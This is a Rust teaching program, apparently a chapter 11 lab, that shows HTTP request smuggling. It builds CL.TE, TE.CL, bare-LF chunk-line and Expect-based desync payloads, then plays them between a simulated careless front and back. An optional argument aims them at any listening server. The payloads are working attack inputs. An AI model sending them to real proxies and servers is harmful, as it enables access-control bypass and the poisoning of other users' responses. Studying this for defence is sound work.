//! Chapter 11, laboratory: two careless programs, a front and a back. Both read the same
//! bytes, and they do not find the same requests in them. Where an address is named, the
//! server that listens there takes the place of the careless back.
//!
//!     cargo run -p ch11-chunked --example ch11-careless -- cl.te 127.0.0.1:8080

use std::env;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::thread;

use anyhow::{Context, bail};

/// What a program goes by to find the end of a request.
#[derive(Clone, Copy)]
enum GoesBy {
    /// `Content-Length`, whatever else is there.
    Length,
    /// `Transfer-Encoding`, whatever else is there. The line of a size, with its
    /// extension, goes on to the first of these line ends.
    Chunks(&'static str),
    /// `Content-Length` too; but a client that expects `100 Continue` and is refused is
    /// taken to keep the body.
    Expectation,
}

const VISIT: &str = "GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n";

/// What the front goes by, what the back goes by, and the one request that an attacker
/// sends to the front, with another one hidden in it.
fn pair(name: &str) -> anyhow::Result<(GoesBy, GoesBy, String)> {
    let post = |target: &str, fields: &str, body: &str| {
        let form = "Content-Type: application/x-www-form-urlencoded\r\n";
        format!("POST {target} HTTP/1.1\r\nHost: localhost\r\n{form}{fields}\r\n{body}")
    };
    let hidden =
        |fields: &str| format!("GET /query?hidden HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n");
    let length = |body: &str| format!("Content-Length: {}\r\n", body.len());
    let chunked = "Transfer-Encoding: chunked\r\n";
    // The end of the last chunk becomes the body of the request that is hidden in it.
    let end = "\r\n0\r\n\r\n";
    let hidden_in_a_chunk = hidden(&length(end));

    Ok(match name {
        "cl.te" => {
            let body = format!("0\r\n\r\n{}", hidden(""));
            let request = post("/guestbook", &(length(&body) + chunked), &body);
            (GoesBy::Length, GoesBy::Chunks("\r\n"), request)
        }
        "te.cl" => {
            let line = format!("{:x}\r\n", hidden_in_a_chunk.len());
            let body = format!("{line}{hidden_in_a_chunk}{end}");
            let request = post("/guestbook", &(length(&line) + chunked), &body);
            (GoesBy::Chunks("\r\n"), GoesBy::Length, request)
        }
        "lf" => {
            let chunk = format!("0\r\n\r\n{hidden_in_a_chunk}");
            let body = format!("2;\nxx\r\n{:x}\r\n{chunk}{end}", chunk.len());
            let request = post("/guestbook", chunked, &body);
            (GoesBy::Chunks("\n"), GoesBy::Chunks("\r\n"), request)
        }
        "expect" => {
            let body = hidden("");
            let request = post(
                "/hello",
                &(length(&body) + "Expect: 100-continue\r\n"),
                &body,
            );
            (GoesBy::Length, GoesBy::Expectation, request)
        }
        _ => bail!("there is no such pair; the pairs are cl.te, te.cl, lf and expect"),
    })
}

fn main() -> anyhow::Result<()> {
    let mut arguments = env::args().skip(1);
    let (front, back, attack) = pair(&arguments.next().unwrap_or_default())?;
    let (address, careless_back) = match arguments.next() {
        Some(address) => (address.parse()?, None),
        None => {
            let listener = TcpListener::bind("127.0.0.1:0")?;
            let address = listener.local_addr()?;
            (address, Some(thread::spawn(move || serve(&listener, back))))
        }
    };

    println!("An attacker sends to the front:");
    for line in attack.split_inclusive('\n') {
        println!("> {}", line.escape_debug());
    }
    let requests = requests(attack.as_bytes(), front);
    println!(
        "What the front finds in it and passes on: {}",
        requests.len()
    );
    let mut connection = None;
    for request in requests {
        let answer = pass_on(request, address, &mut connection)?;
        println!("The attacker gets {answer}");
    }
    println!(
        "A visitor asks for /hello, over {} connection to the back.",
        if connection.is_some() {
            "the same"
        } else {
            "a new"
        }
    );
    let answer = pass_on(VISIT.as_bytes(), address, &mut connection)?;
    println!("The visitor gets {answer}");

    if let Some(mut connection) = connection {
        connection.get_ref().shutdown(Shutdown::Write)?;
        io::copy(&mut connection, &mut io::sink())?;
    }
    if let Some(Ok(found)) = careless_back.map(thread::JoinHandle::join) {
        println!("What the back has found: {}", found?.join(", "));
    }
    Ok(())
}

/// Sends a request to the back, over the connection that is there or a new one, and gives
/// what stands in the answer.
fn pass_on(
    request: &[u8],
    back: SocketAddr,
    connection: &mut Option<BufReader<TcpStream>>,
) -> anyhow::Result<String> {
    let mut reader = match connection.take() {
        Some(reader) => reader,
        None => BufReader::new(TcpStream::connect(back)?),
    };
    reader.get_mut().write_all(request)?;
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head)? == 0 {
            bail!("the back has closed the connection");
        }
    }
    let length = field(&head, "content-length")
        .context("no length")?
        .parse()?;
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    if field(&head, "connection").as_deref() != Some("close") {
        *connection = Some(reader);
    }
    let status = head.lines().next().unwrap_or_default();
    Ok(format!("{status}: {}", String::from_utf8_lossy(&body)))
}

/// The careless back: answers one connection, and gives the requests that it found.
fn serve(listener: &TcpListener, goes_by: GoesBy) -> anyhow::Result<Vec<String>> {
    let (mut stream, _) = listener.accept()?;
    let (mut received, mut found) = (Vec::new(), Vec::new());
    let mut piece = [0; 1024];
    loop {
        while let Some(end) = end_of_request(&received, goes_by) {
            let line = received
                .split(|&byte| byte == b' ')
                .take(2)
                .collect::<Vec<_>>();
            let line = String::from_utf8_lossy(&line.join(&b' ')).into_owned();
            let page = format!("<h1>This is {line}</h1>");
            let length = page.len();
            let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {length}\r\n\r\n{page}");
            stream.write_all(answer.as_bytes())?;
            found.push(line);
            received.drain(..end);
        }
        match stream.read(&mut piece)? {
            0 => return Ok(found),
            length => received.extend_from_slice(&piece[..length]),
        }
    }
}

/// All whole requests.
fn requests(mut received: &[u8], goes_by: GoesBy) -> Vec<&[u8]> {
    let mut requests = Vec::new();
    while let Some(end) = end_of_request(received, goes_by) {
        let (request, rest) = received.split_at(end);
        requests.push(request);
        received = rest;
    }
    requests
}

/// Where the first request ends, once it has come whole.
fn end_of_request(received: &[u8], goes_by: GoesBy) -> Option<usize> {
    let head_end = find(received, "\r\n\r\n")? + 4;
    let (head, body) = received.split_at(head_end);
    let head = String::from_utf8_lossy(head);
    let length = match goes_by {
        GoesBy::Chunks(line_end) if field(&head, "transfer-encoding").is_some() => {
            end_of_chunks(body, line_end)?
        }
        GoesBy::Expectation if field(&head, "expect").is_some() => 0,
        _ => field(&head, "content-length").map_or(Some(0), |length| length.parse().ok())?,
    };
    (body.len() >= length).then_some(head_end + length)
}

/// Where the last chunk ends. The two bytes behind each chunk are not looked at.
fn end_of_chunks(body: &[u8], line_end: &str) -> Option<usize> {
    let mut at = 0;
    loop {
        let line_length = find(body.get(at..)?, line_end)?;
        let line = String::from_utf8_lossy(&body[at..at + line_length]);
        let size = usize::from_str_radix(line.split([';', '\r']).next()?, 16).ok()?;
        at += line_length + line_end.len() + size + 2;
        if size == 0 {
            return Some(at);
        }
    }
}

fn find(bytes: &[u8], wanted: &str) -> Option<usize> {
    let mut windows = bytes.windows(wanted.len());
    windows.position(|window| window == wanted.as_bytes())
}

/// The value of the first field of that name, in small letters.
fn field(head: &str, name: &str) -> Option<String> {
    let head = head.to_ascii_lowercase();
    let mut fields = head.lines().filter_map(|line| line.split_once(": "));
    fields
        .find(|field| field.0 == name)
        .map(|field| field.1.to_owned())
}
